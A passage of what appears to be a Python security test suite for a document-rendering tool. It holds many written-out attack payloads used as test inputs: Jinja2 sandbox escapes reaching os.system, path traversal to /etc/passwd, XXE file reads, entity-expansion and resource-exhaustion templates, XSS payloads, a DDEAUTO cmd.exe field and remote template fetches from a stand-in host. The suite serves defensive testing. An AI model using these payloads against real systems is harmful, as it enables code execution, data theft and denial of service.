"""Attacks on templates, on what is written, and on the public edition, with what must hold.

They were written down from what the documentation promises, not from what the code does: each
stands for a kind. Folders, plans, templates, letterheads and settings come from a stranger.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator, Mapping, Sequence

from tests.attack.scene import (
    OUTSIDE,
    SECRET,
    SOUND,
    Attack,
    Content,
    Promise,
    Scene,
    finds,
    hard_link,
    hides,
    hides_or_tells,
    link,
    pipe,
    plan,
    read_only,
    refused,
    says_not,
    shows,
    succeeds,
    told,
    word,
)

PLAN = "方案.yaml"
TEMPLATE = "templates/implementation.md.j2"
LETTERHEAD = "红头.docx"
MARKER = f"{OUTSIDE}/marker"
BACKGROUND = "梧桐社区地处城区结合部，流动人口较多，"
GROUNDWORK = "社区党委下设若干网格党小组，"
RENDER = ("render", PLAN, "--to", "md", "-o", "成文.md")
FORMS = ("docx", "html", "md", "xlsx", "ics")


def public(
    *more: str, forms: Sequence[str] = FORMS, kind: str = "实施方案", to: str = ""
) -> list[tuple[str, ...]]:
    """The commands that publish a plan, in each of these formats; ``to`` tells files apart."""
    given = ("--edition", "public", "--allow-errors", "--doc", kind, *more)
    return [("render", PLAN, "--to", form, "-o", f"{kind}{to}.{form}", *given) for form in forms]


def by_text(*templates: str) -> tuple[dict[str, Content], list[tuple[str, ...]]]:
    """Each of these beside a plan of its own, and the commands that use them."""
    files: dict[str, Content] = {}
    commands: list[tuple[str, ...]] = []
    for number, text in enumerate(templates):
        files |= {f"{number}/{PLAN}": SOUND.encode(), f"{number}/{TEMPLATE}": text.encode()}
        commands.append(("render", f"{number}/{PLAN}", "--to", "md", "-o", f"{number}.md"))
    return files, commands


def by_word(*paragraphs: str) -> tuple[dict[str, Content], list[tuple[str, ...]]]:
    """Each of these as the paragraph of a letterhead, and the commands that use them."""
    files: dict[str, Content] = {PLAN: SOUND.encode()}
    commands: list[tuple[str, ...]] = []
    for number, text in enumerate(paragraphs):
        files[f"{number}.docx"] = word(text)
        commands.append(
            ("render", PLAN, "-o", f"成文{number}.docx", "--template", f"{number}.docx")
        )
    return files, commands


def each_published(*texts: str) -> tuple[dict[str, Content], list[tuple[str, ...]]]:
    """Each of these in a plan of its own, that one that is refused hides no other."""
    given = ("--edition", "public", "--allow-errors")
    files: dict[str, Content] = {}
    commands: list[tuple[str, ...]] = []
    for number, text in enumerate(texts):
        files[f"{number}/{PLAN}"] = plan(background(text))
        for form in ("md", FORMS[number % len(FORMS)]):
            file = f"{number}-{form}.{form}"
            commands.append(("render", f"{number}/{PLAN}", "--to", form, "-o", file, *given))
    return files, commands


def lists(*words: str) -> str:
    """Sentences one after another, as a text holds them."""
    return "".join(f"{text}。" for text in words)


def background(*words: str) -> tuple[str, str]:
    """The change of a plan that puts sentences into its 背景."""
    return BACKGROUND, lists(*words) + BACKGROUND


# Templates of text --------------------------------------------------------------------------

_DOUBLING = "{% set ns = namespace(a=['甲']) %}{% for i in range(64) %}"

TEXT_TEMPLATES = [
    Attack(
        "text: Python's own attributes",
        "reach the interpreter from every thing that a template is given",
        *by_text(
            *(
                "# 甲\n\n{{ " + f"{thing}['__in'~'it__']['__glo'~'bals__']" + " }}"
                for thing in (
                    "lipsum",
                    "cycler",
                    "joiner",
                    "namespace",
                    "responsible",
                    "lead",
                    "self",
                )
            ),
            "{{ (title|attr('__class__')).mro() }}",
            "{{ responsible.__globals__.jindu }}{{ responsible.func_globals }}",
            "{% for x in [plan] %}{{ loop.__init__.__globals__ }}{{ loop._iterable }}{% endfor %}",
            "{% macro m() %}{{ caller.__func__ }}{% endmacro %}{% call m() %}{% endcall %}",
            "{% macro m() %}{% endmacro %}{{ m.__init__ }}",
            "{{ [title, plan]|map(attribute='__class__.__mro__')|list }}",
            "{{ plan.entities.gi_frame.f_builtins }}{{ plan.parts().gi_frame.f_globals }}",
        ),
        [refused],
    ),
    Attack(
        "text: a format is a template too",
        "let str.format read attributes the sandbox would not give",
        *by_text(
            *(
                f"{{{{ ('{{0.__class__.__mro__}}'|{make})(plan) }}}}"
                for make in ("attr('format')", "attr('form'~'at')", "attr('format_map')")
            ),
            "{{ '%(a)s'|format(a=plan.__class__) }}",
            "{{ ['{0.__init__.__globals__}']|map('format', plan)|list }}",
            "{{ '{x.__class__}'.format_map({'x': plan}) }}",
        ),
        [refused, hides("class ", "mappingproxy", loosely=False)],
    ),
    Attack(
        "text: what lies outside",
        "read a file of the machine through include, import, extends, by every spelling",
        *by_text(
            *(
                form % name
                for form in (
                    "{%% include '%s' %%}",
                    "{%% extends '%s' %%}",
                    "{%% import '%s' as x %%}{{ x }}",
                )
                for name in (
                    f"{OUTSIDE}/secret.txt",
                    "../../../outside/secret.txt",
                    "..\\\\..\\\\secret.txt",
                )
            ),
            "{% include ['/etc/passwd', '../方案.yaml'] %}",
            "{% include '../方案.yaml' ignore missing %}\n# 甲\n",
        ),
        [hides(SECRET, "root:x:", "联系: {单位")],
    ),
    Attack(
        "text: a link for a folder",
        "read a file of the machine through links in what was sent",
        {
            PLAN: SOUND.encode(),
            TEMPLATE: b"{% include 'part.j2' %}",
            "templates/part.j2": link(f"{OUTSIDE}/secret.txt"),
            "乙/方案.yaml": SOUND.encode(),
            "乙/templates": link(OUTSIDE),
        },
        [RENDER, ("render", "乙/方案.yaml", "--to", "md", "-o", "乙.md")],
        [hides(SECRET)],
    ),
    Attack(
        "text: values that double",
        "take all memory by what is not a text",
        *by_text(
            _DOUBLING + "{% set ns.a = [ns.a, ns.a] %}{% endfor %}{{ ns.a }}",
            _DOUBLING + "{% set ns.a = ns.a + ns.a %}{% endfor %}{{ ns.a|length }}",
            _DOUBLING + "{% set ns.a = {'x': ns.a, 'y': ns.a} %}{% endfor %}{{ ns.a|tojson }}",
            _DOUBLING + "{% set ns.a = ns.a ~ ns.a %}{% endfor %}{{ ns.a }}",
            _DOUBLING + "{% set ns.a %}{{ ns.a }}{{ ns.a }}{% endset %}{% endfor %}{{ ns.a }}",
            "{% set a = [] %}{% for i in range(99999) %}{% if a.append(range(99999)|list) %}"
            "{% endif %}{% endfor %}{{ a|length }}",
            "{{ (('甲',) * 1)|batch(10**9, '乙')|list|length }}",
            "{{ '甲'|urlize(10**9, rel='x' ~ '%*d' % (10**9, 1)) }}",
        ),
        [refused],
    ),
    Attack(
        "text: numbers that grow",
        "keep the processor busy with arithmetic",
        *by_text(
            "{% set ns = namespace(n=10) %}"
            "{% for i in range(64) %}{% set ns.n = ns.n * ns.n %}{% endfor %}{{ ns.n }}",
            "{{ 9**64**64 }}{{ 9**(9**9) }}",
            "{{ (9**64)**64 // 7 ** 64 }}{{ ((9**64)**64)**64 }}{{ (((9**64)**64)**64)**64 }}",
            "{{ range(10**18)|sum }}{{ range(10**9)|last }}",
            "{{ plan.budget.total ** 64 ** 64 }}",
            "{{ (10**18)|round(10**9) }}{{ '9'|int(base=10**9) }}",
        ),
        [],
    ),
    Attack(
        "text: loops without lines",
        "keep the processor busy where no line of the template is executed",
        *by_text(
            "{{ range(99999)|map('string')|map('length')|select('odd')|sort|unique|list|length }}"
            * 80,
            "{% for x in range(99999) %}{{ range(99999)|sum }}{% endfor %}",
            "{% for x in range(9999) %}{{ lipsum(n=99, min=99, max=999)|length }}{% endfor %}",
            "{{ '甲乙'|replace('', '丙丁戊己'|replace('', '子丑寅卯'|replace('', '天地玄黄'))) }}",
            "{{ range(10**7)|groupby('x')|list|length }}",
            "{% set x = range(99999)|list %}"
            "{% for i in range(99999) %}{% if x == x|reverse|list %}{% endif %}{% endfor %}",
        ),
        [],
    ),
    Attack(
        "text: without bottom",
        "break the compiler or the stack",
        *by_text(
            "{% for a in [1] %}" * 30 + "甲" + "{% endfor %}" * 30,
            "{{ " + "(" * 3000 + "1" + ")" * 3000 + " }}",
            "{{ " + "not " * 60_000 + "1 }}",
            "{{ " + "-" * 60_000 + "1 }}",
            "{{ 1" + " + 1" * 60_000 + " }}",
            "{% if 1 %}" * 300 + "{% endif %}" * 300,
            "{% macro m(n) %}{{ m(n + 1) }}{% endmacro %}{{ m(0) }}",
            "{% include 'implementation.md.j2' %}",
            "{% extends 'implementation.md.j2' %}",
            "{% block a %}{% block b %}{{ self.a() }}{% endblock %}{% endblock %}",
            "{{ " + "[" * 150 + "]" * 150 + " }}{{ {" + "1:{" * 120 + "}" * 121 + " }}",
            "{{ " + "title|default(" * 400 + "1" + ")" * 400 + " }}",
            "{{ " + "9" * 10_000 + " }}{{ 1e999999999 }}{{ 1_0 / 0 }}",
        ),
        [],
    ),
    Attack(
        "text: names of the next plan",
        "change what the following plans of the same run are made with",
        {
            "1/方案.yaml": SOUND.encode(),
            f"1/{TEMPLATE}": "".join(
                f"{{% if {call} %}}{{% endif %}}"
                for call in (
                    "annexes.clear()",
                    "given.update({'a': '毒饵'})",
                    "approvals.append('毒饵')",
                    "years.append('毒饵')",
                    "plan.overview.year_focus.update({2026: '毒饵'})",
                )
            ).encode()
            + "\n# 甲\n".encode(),
            "2/方案.yaml": SOUND.encode(),
        },
        [("render", "1/方案.yaml", "2/方案.yaml", "--to", "md")],
        [hides("毒饵")],
    ),
    Attack(
        "text: markup of its own",
        "put a script into a page through what a template may write",
        {
            PLAN: plan(background("[点](javascript:alert(1))<script>alert(2)</script>")),
            TEMPLATE: "# 甲\n\n<script>alert(3)</script>{{ '<script>alert(4)</script>'|safe }}\n\n"
            "{{ '<img src=x onerror=alert(5)>'|safe }}[点](javascript:alert(6))![图](http://x.example/a.png)\n\n"
            "<iframe src='http://x.example'></iframe>{{ overview.background }}\n".encode(),
        },
        [("render", PLAN, "--to", form, "-o", f"成文.{form}") for form in ("html", "docx")],
        [
            hides(
                "<script>alert",
                "<img src=x",
                "<iframe",
                'href="javascript:',
                'src="http',
                loosely=False,
            )
        ],
    ),
    Attack(
        "text: files that are no templates",
        "have a template of another encoding or kind used wrongly, or not at all, in silence",
        {
            **{
                f"{number}/{name}": content
                for number, template in enumerate(
                    (
                        "# 标题甲\n\n甲乙丙丁\n".encode("gb18030"),
                        "# 标题甲\n\n甲乙丙丁\n".encode("utf-16"),
                        "# 标题甲\n\n甲乙\x1b[31m丙丁\n".encode(),
                        "# 标题甲\n\n甲乙\0丙丁\n".encode(),
                        "# 标题\u202e甲\n\n甲乙丙丁\u2066\n".encode(),
                        b"PK\x03\x04" + bytes(range(256)),
                    )
                )
                for name, content in ((PLAN, SOUND.encode()), (TEMPLATE, template))
            },
        },
        [("render", f"{n}/{PLAN}", "--to", "docx", "-o", f"{n}.docx") for n in range(6)],
        [hides("\x1b", "\u202e", "\u2066", loosely=False), told("implementation.md.j2")],
    ),
    Attack(
        "text: what stands beside a plan is said",
        "have the sender's wording and rules used without a word",
        {
            PLAN: SOUND.encode(),
            TEMPLATE: b"# {{ title }}\n\n{{ (plan.budget.total + plan.budget.total) | money }}\n",
        },
        [RENDER],
        [told("templates", "implementation.md.j2")],
    ),
]

# Templates of Word --------------------------------------------------------------------------

_WORD_RUN = "cycler.__init__.__globals__.os.system('touch @OUTSIDE@/marker')"

WORD_TEMPLATES = [
    Attack(
        "word: what 正文 is made of",
        "run a program or write a file through the text's own objects, however they are named",
        *by_word(
            "{{ 正文.tpl.render_xml_part('{'~'{ "
            + _WORD_RUN
            + " }'~'}', 正文.docx.part, {}, None) }}",
            "{{ 正文['docx']['save']('@OUTSIDE@/marker') }}",
            "{{ (正文|attr('docx')|attr('save'))('@OUTSIDE@/marker') }}",
            "{{ ([正文]|map(attribute='docx')|first).save('@OUTSIDE@/marker') }}",
            "{{ 正文.subdocx.element.body.getroottree().write('@OUTSIDE@/marker') }}",
            "{{ 正文.subdocx.element.getroottree().write_c14n('@OUTSIDE@/marker') }}",
            "{% for p in 正文.docx.part.package.iter_parts() %}{{ p.partname }}{% endfor %}",
            "{{ 正文.tpl.replace_pic('x', '@OUTSIDE@/secret.txt') }}",
            "{{ 正文.tpl.build_url_id('http://x.example') }}",
            "{{ 正文.tpl.new_subdoc('@OUTSIDE@/secret.docx') }}",
            "{{ 正文.add_paragraph('甲') }}{{ 正文.__class__ }}",
        ),
        [refused],
    ),
    Attack(
        "word: every part of the file",
        "hide the same in headers, properties, notes and comments",
        {
            PLAN: SOUND.encode(),
            "1.docx": word("甲", header="{{ 正文.docx.save('@OUTSIDE@/marker') }}"),
            "2.docx": word("甲", properties={"title": "{{ 正文.docx.save('x') }}"}),
            "3.docx": word("甲", properties={"comments": "{{ lipsum.__globals__ }}"}),
            "4.docx": word("甲{{ title }}", properties={"author": "{{ " + "9**64**9 }}"}),
        },
        [("render", PLAN, "-o", f"成文{n}.docx", "--template", f"{n}.docx") for n in (1, 2, 3, 4)],
        [hides("__main__", "built-in", loosely=False)],
    ),
    Attack(
        "word: entities",
        "read a file, or take all memory, through the XML of a letterhead",
        {
            PLAN: SOUND.encode(),
            "1.docx": word(
                "甲ENTITY",
                swaps=[
                    (
                        b"<w:document",
                        b'<!DOCTYPE d [<!ENTITY x SYSTEM "file://@OUTSIDE@/secret.txt">]><w:document',
                    ),
                    (b"ENTITY<", b"&x;<"),
                ],
            ),
            "2.docx": word(
                "甲ENTITY",
                swaps=[
                    (
                        b"<w:document",
                        b'<!DOCTYPE d [<!ENTITY a "'
                        + b"x" * 1000
                        + b'">'
                        + b"".join(
                            f'<!ENTITY {name} "{f"&{chr(ord(name) - 1)};" * 20}">'.encode()
                            for name in "bcdefgh"
                        )
                        + b"]><w:document",
                    ),
                    (b"ENTITY<", b"&h;<"),
                ],
            ),
        },
        [("render", PLAN, "-o", f"成文{n}.docx", "--template", f"{n}.docx") for n in (1, 2)],
        [hides(SECRET), refused],
    ),
    Attack(
        "word: packages that are none",
        "break the reader of the package, or write beside it",
        {
            PLAN: SOUND.encode(),
            "1.docx": word("甲", parts={"../../../outside/marker": b"x", "/tmp/../marker": b"x"}),
            "2.docx": word("甲", parts={f"word/media/{n}.bin": b"" for n in range(30_000)}),
            "3.docx": word("甲", parts={"word/media/a.xml": b" " * (190 << 20)}),
            "4.docx": word("甲", parts={"[Content_Types].xml": b"<Types/>"}),
            "5.docx": word("甲", parts={"word/document.xml": b"<a>" * 100_000}),
            "6.docx": word("甲", parts={"word/document.xml": b"<w:document>" * 3}),
            "7.docx": word("甲", parts={"word/_rels/document.xml.rels": b"<Relationships/>"}),
            "8.docx": word("甲", parts={"word/styles.xml": b"\xff\xfe\x00"}),
            "9.docx": word(
                "甲",
                swaps=[
                    (
                        b'ContentType="application/vnd.openxmlformats-officedocument.'
                        b'wordprocessingml.document.main+xml"',
                        b'ContentType="a/b"',
                    )
                ],
            ),
            "10.docx": b"PK\x05\x06" + bytes(18),
            "11.docx": b"PK\x03\x04" + bytes(2000),
            "12.docx": b"",
            "13.docx": word("甲", parts={"docProps/core.xml": b"<x/>"}),
            "14.docx": word("甲", parts={"word/document.xml": "<文档>甲</文档>".encode("gb18030")}),
        },
        [("render", PLAN, "-o", f"成文{n}.docx", "--template", f"{n}.docx") for n in range(1, 15)],
        [],
    ),
    Attack(
        "word: a letterhead that calls home",
        "have every reader's Word fetch a file, run a macro or a field",
        {
            PLAN: SOUND.encode(),
            "1.docx": word(
                "甲",
                swaps=[
                    (
                        b"</Relationships>",
                        b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/'
                        b'2006/relationships/attachedTemplate" Target="http://x.example/a.dotm" '
                        b'TargetMode="External"/></Relationships>',
                    )
                ],
            ),
            "2.docx": word(
                "甲FIELD",
                swaps=[
                    (
                        b"<w:t>\xe7\x94\xb2FIELD</w:t>",
                        b'<w:instrText>DDEAUTO c:\\\\x\\\\cmd.exe "/k calc"</w:instrText>',
                    )
                ],
            ),
            "3.docx": word("甲", parts={"word/vbaProject.bin": b"macro"}),
            "4.docx": word(
                "甲FIELD",
                swaps=[
                    (
                        b"<w:t>\xe7\x94\xb2FIELD</w:t>",
                        b'<w:instrText>INCLUDEPICTURE "http://x.example/a.png" \\d</w:instrText>',
                    )
                ],
            ),
        },
        [("render", PLAN, "-o", f"成文{n}.docx", "--template", f"{n}.docx") for n in (1, 2, 3, 4)],
        [hides_or_tells(("外部", "链接", "域"), "x.example", "DDEAUTO")],
    ),
    Attack(
        "word: tags of its own",
        "break the layout with what the Word templates add to Jinja",
        *by_word(
            "{% colspan 10**9 %}甲",
            "{% cellbg '</w:tcPr><w:altChunk/>' %}",
            "{%tr for x in range(10**6) %}甲{%tr endfor %}",
            "{%p for x in range(10**6) %}{%p endfor %}",
            "{{r 正文 }}{{ 正文 }}{{tc 正文 }}",
            "{% hm %}{% vm %}甲",
            "{%p if 1 %}",
            "{{ '</w:t></w:r></w:p></w:body>'|safe }}",
            "{{ '\\x00\\x08\\ufffe' }}甲",
            "{_{ title }_}{{ '{_{' }}{{ '\\n\\t\\a' * 1 }}",
        ),
        [],
    ),
    Attack(
        "word: the letterhead is the target",
        "have the letterhead itself overwritten by what is made of it",
        {PLAN: SOUND.encode(), LETTERHEAD: word("甲{{ title }}"), "别名.docx": link(LETTERHEAD)},
        [
            ("render", PLAN, "-o", LETTERHEAD, "--template", LETTERHEAD),
            ("render", PLAN, "-o", "别名.docx", "--template", LETTERHEAD),
            ("render", PLAN, "-o", LETTERHEAD, "--template", "别名.docx"),
        ],
        [refused],
    ),
    Attack(
        "word: the letterhead tells on its maker",
        "publish what a letterhead holds besides its text: remarks, changes, names, paths",
        {
            PLAN: SOUND.encode(),
            LETTERHEAD: word(
                "甲{{ title }}FIELD",
                properties={"author": "王芳", "last_modified_by": "王芳", "keywords": "内部掌握"},
                parts={
                    "docProps/app.xml": "<Properties><Manager>王芳</Manager></Properties>".encode()
                },
                swaps=[
                    (
                        b"FIELD</w:t></w:r>",
                        '</w:t></w:r><w:del w:id="1" w:author="王芳"><w:r><w:delText>'
                        "线人13800138000</w:delText></w:r></w:del>".encode(),
                    )
                ],
            ),
        },
        [("render", PLAN, "-o", "成文.docx", "--template", LETTERHEAD, "--edition", "public")],
        [hides("13800138000", "王芳")],
    ),
]

# What is written, and where -----------------------------------------------------------------

_NOTES = "我自己的记录\n".encode()
_BASELINE = b'{"version": 1, "findings": []}\n'
_SETTINGS = '[norms]\n"满意度下限" = 95\n'.encode()
_OTHERS_JSON = '{"我的": [1, 2, 3]}\n'.encode()


def _both_plans(scene: Scene) -> Iterator[str]:
    if scene.codes == [0] and len(set(scene.made.values())) < 2:
        yield "one of two documents is lost"


def _same_file(scene: Scene) -> Iterator[str]:
    first, second = scene.folder / "方案.yaml", scene.folder / "同一份.yaml"
    if first.read_bytes() != second.read_bytes() or not first.samefile(second):
        yield "two names of one file part"


def _saved(scene: Scene) -> Iterator[str]:
    from tests.attack.victim import SAVED_MEANWHILE

    if not (scene.folder / PLAN).read_bytes().endswith(SAVED_MEANWHILE):
        yield "what was saved meanwhile is lost"


WRITERS = [
    Attack(
        "write: a plan for a target",
        "replace another plan, whatever its name, its case and the way to it",
        {
            PLAN: SOUND.encode(),
            "乙.yaml": SOUND.encode(),
            "丙.txt": SOUND.encode(),
            "丁": SOUND.encode(),
            "链接.md": link("乙.yaml"),
            "子/x": b"",
            "戊.md": SOUND.encode(),
            "己.json": SOUND.encode(),
            "庚.docx": SOUND.encode("gb18030"),
        },
        [
            ("render", PLAN, "--to", "md", "-o", "乙.yaml"),
            ("render", PLAN, "--to", "md", "-o", "丙.txt"),
            ("render", PLAN, "--to", "md", "-o", "子/../乙.yaml"),
            ("render", PLAN, "--to", "md", "-o", "链接.md"),
            ("render", PLAN, "--to", "md", "-o", "戊.md"),
            ("render", PLAN, "-o", "庚.docx"),
            ("schema", "-o", "乙.yaml"),
            ("schema", "-o", "丁"),
            ("schema", "-o", "己.json"),
            ("check", PLAN, "--baseline", "乙.yaml", "--write-baseline"),
            ("check", PLAN, "--baseline", "己.json", "--write-baseline"),
            ("check", PLAN, "--baseline", "链接.md", "--write-baseline"),
        ],
        [refused],
    ),
    Attack(
        "write: another kind of file for a target",
        "replace what the user has of another kind",
        {
            PLAN: SOUND.encode(),
            "jindu.toml": _SETTINGS,
            "记录.txt": _NOTES,
            "记录.docx": _NOTES,
            "记录.xlsx": _NOTES,
            "记录.html": _NOTES,
            "记录.ics": _NOTES,
            "我的.json": _OTHERS_JSON,
            "基线.json": _BASELINE,
            LETTERHEAD: word("甲"),
        },
        [
            ("render", PLAN, "--to", "md", "-o", "jindu.toml"),
            ("render", PLAN, "--to", "md", "-o", "记录.txt"),
            ("render", PLAN, "-o", "记录.docx"),
            ("render", PLAN, "-o", "记录.xlsx"),
            ("render", PLAN, "-o", "记录.ics"),
            ("render", PLAN, "--to", "xlsx", "-o", LETTERHEAD),
            ("schema", "-o", "jindu.toml"),
            ("schema", "-o", "我的.json"),
            ("schema", "-o", "基线.json"),
            ("check", PLAN, "--baseline", "我的.json", "--write-baseline"),
            ("check", PLAN, "--baseline", "jindu.toml", "--write-baseline"),
            ("check", PLAN, "--baseline", LETTERHEAD, "--write-baseline"),
        ],
        [refused],
    ),
    Attack(
        "write: init and copy",
        "replace files that init and templates copy write besides",
        {
            "jindu.schema.json": _OTHERS_JSON,
            "乙/方案.yaml": SOUND.encode(),
            "乙/templates/implementation.md.j2": link("../方案.yaml"),
            "丙/templates": link("../乙"),
        },
        [
            ("init", "方案.yaml", "--defaults"),
            ("init", "新/jindu.schema.json", "--defaults"),
            ("templates", "copy", "实施方案", "乙", "--force"),
            ("templates", "copy", "实施方案", "乙/方案.yaml"),
        ],
        [],
    ),
    Attack(
        "write: a link out of the folder",
        "write through a link that came with a plan",
        {
            PLAN: SOUND.encode(),
            "方案.docx": link(f"{OUTSIDE}/secret.txt"),
            "方案.md": link(f"{OUTSIDE}/方案.yaml"),
            "出": link(OUTSIDE),
            "乙.yaml": link(f"{OUTSIDE}/secret.txt"),
        },
        [
            ("render", PLAN),
            ("render", PLAN, "--to", "md"),
            ("render", PLAN, "--to", "md", "-o", "出/方案.yaml"),
            ("check", "乙.yaml", "--fix"),
        ],
        [],
    ),
    Attack(
        "write: two documents in one place",
        "lose one of two documents that meet through a link",
        {
            "甲.yaml": SOUND.encode(),
            "乙.yaml": plan(("邻里清风", "另一品牌")),
            "甲.docx": link("乙.docx"),
        },
        [("render", "甲.yaml", "乙.yaml")],
        [_both_plans],
    ),
    Attack(
        "write: fixing what must stay",
        "have --fix write a file that may not be written, or part two names of one file",
        {
            "锁定.yaml": read_only(plan(("标题: ", "标题："))),
            PLAN: plan(("标题: ", "标题：")),
            "同一份.yaml": hard_link(PLAN),
        },
        [("check", "锁定.yaml", "--fix"), ("check", PLAN, "--fix")],
        [_same_file, told("只读", "只能读", "权限", "写不了")],
        frozenset((PLAN, "同一份.yaml")),
    ),
    Attack(
        "write: saved meanwhile",
        "lose what an editor saves while --fix is writing",
        {PLAN: plan(("标题: ", "标题："))},
        [("check", PLAN, "--fix")],
        [_saved],
        frozenset((PLAN,)),
        "saves_meanwhile",
    ),
    Attack(
        "write: what is no file",
        "hang on a pipe, or put a file in the place of one",
        {
            PLAN: SOUND.encode(),
            "管.md": pipe,
            "管.yaml": pipe,
            "丙/jindu.toml": pipe,
            "丙/方案.yaml": SOUND.encode(),
        },
        [
            ("render", PLAN, "--to", "md", "-o", "管.md"),
            ("check", "丙"),
            ("check", "."),
            ("check", PLAN, "--baseline", "管.md"),
            ("render", PLAN, "--template", "管.md", "--to", "docx"),
        ],
        [],
    ),
    Attack(
        "write: names that speak to the terminal",
        "send escapes, lines of a workflow, or reversed words to who reads the report",
        {
            "\x1b[2J::error::x\u202e.yaml": b"a: b\n",
            "b\n::error file=x::y.yaml": plan(("邻里清风", "邻里\t清风")),
            "丙/jindu.toml": '[check]\n"\\u001b[31m红\\n::error::z" = 1\n'.encode(),
            "丙/方案.yaml": SOUND.encode(),
            "丁/方案.yaml": SOUND.encode(),
            f"丁/{TEMPLATE}": b"{% include '\\x1b[31mq\\n::error::w' %}",
            "戊/方案.yaml": '方案:\n  "标\\e[31m题": 甲\n  状态: "\\e]0;x\\a"\n'.encode(),
        },
        [
            ("check", "."),
            ("check", ".", "--format", "github"),
            ("check", ".", "--quiet"),
            ("check", "戊", "--fix"),
            ("check", "戊", "--diff"),
            ("render", "丁/方案.yaml", "--to", "md", "-o", "a\x1b[31m.md"),
            ("render", "\x1b[2J::error::x\u202e.yaml"),
            ("check", "没有\x1b[31m.yaml"),
        ],
        [
            lambda scene: (
                f"a line {line!r}"
                for line in scene.said.splitlines()
                if line.startswith("::error")
                and "::" in line[7:]
                and line.rpartition("::")[2] in "xyzw"
            )
        ],
        frozenset(("戊/方案.yaml",)),
    ),
]

# The public edition -------------------------------------------------------------------------

PHONE, IDENTITY = "13800138000", "110101199003077571"
# Such as stand in no example of a rule, which some reports hold.
OTHER_PHONE, OTHER_IDENTITY, OTHER_NAME = "13912349876", "430102198506152314", "陈桂芳"
_EVERYWHERE = (
    GROUNDWORK,
    "选好配强书记，",
    "印发的方案, 指标: Z01",
    "组织党员开展宣传、志愿服务和结对帮扶",
    "经支部党员大会通过并印发执行的制度项数",
    "审议并印发创建实施方案",
    "加强组织领导",
    "申请的资金未能足额到位",
    "分析薄弱楼栋和人群",
    "落实社区戒毒社区康复日常工作",
    "党员走在前，",
)
"""Words of the plan in many kinds of places."""

_COUNTS = (
    "现有两名吸毒人员",
    "排查出3位涉毒人员",
    "吸毒人员：3",
    "登记吸毒人员数为3",
    "在册社戒人员2名",
    "吸毒人员共四个",
    "复吸人员１人",
    "戒毒人员仅有壹名",
    "社区康复人员（2人）",
    "吸毒人员3～4人",
    "强戒出所人员“2”名",
    "吸毒人员2 名",
    "吸毒人员2\u200b名",
    "涉毒家庭2户",
    "②名吸毒人员",
    "吸毒人员由4人减至3人",
    "涉毒未成年人2人",
)
_MORE_COUNTS = (
    "吸毒人员不足五人，实为3人",
    "吸毒者三人",
    "瘾君子2人",
    "制毒人员2名",
    "隐性吸毒人员 2人/户",
    "在册人员（吸毒）2人",
    "吸毒人员总数：2",
    "其中吸毒史十年以上的2人",
    "吸毒人员 = 2",
)
_INNOCENT = (
    "每出现1名复吸人员扣5分",
    "每3人1档",
    "贩毒3人以上的从重",
    "由2名社工结对帮扶服务对象",
    "吸毒人员36名",
    "每月走访服务对象2次",
    "配备专职人员2名",
    "戒毒人员帮扶小组由3个单位组成",
)


def _team(clients: str) -> tuple[str, str]:
    return "服务对象数: 36", f"服务对象数: {clients}"


def _not_all_of(*parts: str) -> Promise:
    """Not all of these stand together in a file that was made: one tells the last."""
    from tests.attack import published

    def promise(scene: Scene) -> Iterator[str]:
        for name, content in scene.made.items():
            if all(published.holds(content, part, False) for part in parts):
                yield f"{name} holds all of {parts}"

    return promise


def _no_property_of_its_own(scene: Scene) -> Iterator[str]:
    """No text of the plan becomes a line of the calendar."""
    for name, content in scene.made.items():
        if name.endswith(".ics") and re.search(rb"^ATT", content, re.MULTILINE):
            yield f"{name} has a property of the attacker's"


def _without_metadata(scene: Scene) -> Iterator[str]:
    from tests.attack import published

    for name, content in scene.made.items():
        for word_ in (str(scene.folder), scene.folder.name, os.environ.get("USER", "")):
            if len(word_) > 4 and published.holds(content, word_, False):
                yield f"{name} holds {word_!r}"


_INTERNAL = {
    "party": (
        "{编号: 派出所, 名称: 清源县公安局柳林街道派出所,",
        "{编号: 派出所, 公开: 否, 名称: 绝密单位甲,",
    ),
    "team": ("{名称: 禁毒社工服务组,", "{公开: 否, 名称: 绝密队伍甲,"),
    "goal": (
        "  - 编号: G4\n    内容: 关爱帮扶有序开展，服务对象得到支持",
        "  - 编号: G4\n    公开: 否\n    内容: 绝密目标甲",
    ),
    "indicator": (
        "      - 编号: Z07\n        名称: 党员志愿者年度留任率",
        "      - 编号: Z07\n        公开: 否\n        名称: 绝密指标甲",
    ),
    "theme": (
        "  - 编号: T5\n    名称: 用好现有信息系统，及时掌握工作进展",
        "  - 编号: T5\n    公开: 否\n    名称: 绝密重点甲",
    ),
    "milestone": (
        "{编号: R12, 名称: 在街道现有信息系统中开通禁毒工作统计表,",
        "{编号: R12, 公开: 否, 名称: 绝密任务甲,",
    ),
    "recurring": (
        "{编号: C4, 名称: 任务进度和指标数据报送,",
        "{编号: C4, 公开: 否, 名称: 绝密例行甲,",
    ),
    "stage": ("{编号: 阶段三, 名称: 巩固提升,", "{编号: 阶段三, 公开: 否, 名称: 绝密阶段甲,"),
    "safeguard": ("    - 名称: 加强组织领导", "    - 公开: 否\n      名称: 绝密保障甲"),
    "risk": ("    - 内容: 申请的资金未能足额到位", "    - 公开: 否\n      内容: 绝密风险甲"),
}

PUBLIC = [
    Attack(
        "public: numbers of telephones, disguised",
        "publish a mobile number that no pattern knows",
        *each_published(
            "联系１３８００１３８０００",
            "联系138 0013 8000",
            "联系138-0013-8000",
            "联系+86-138.0013.8000",
            "联系138\u200b0013\u00ad8000",
            "联系(138)00138000",
            "联系1380013\n    8000",
            "联系𝟏𝟑𝟖𝟎𝟎𝟏𝟑𝟖𝟎𝟎𝟎",
            "联系138_0013_8000",
            "联系138，0013，8000",
            "联系 1 3 8 0 0 1 3 8 0 0 0",
        ),
        [hides(PHONE)],
    ),
    Attack(
        "public: numbers said in words",
        "publish a number spelt out",
        *each_published(
            "电话一三八零零一三八零零零",
            "手机幺三八〇〇幺三八〇〇〇",
            "电话壹叁捌零零壹叁捌零零零",
        ),
        [hides("一三八零零一三八零零零", "幺三八〇〇幺三八〇〇〇", "壹叁捌零零壹叁捌零零零")],
    ),
    Attack(
        "public: a number in every place",
        "publish a number from a place that no one looks at",
        {PLAN: plan(*((word_, f"（{PHONE}）{word_}") for word_ in _EVERYWHERE))},
        [
            command
            for kind in ("实施方案", "申报方案", "资金申请", "责任清单", "绩效目标申报表")
            for command in public(kind=kind, forms=("docx", "html"))
        ]
        + public(forms=("xlsx", "ics")),
        [hides(PHONE)],
    ),
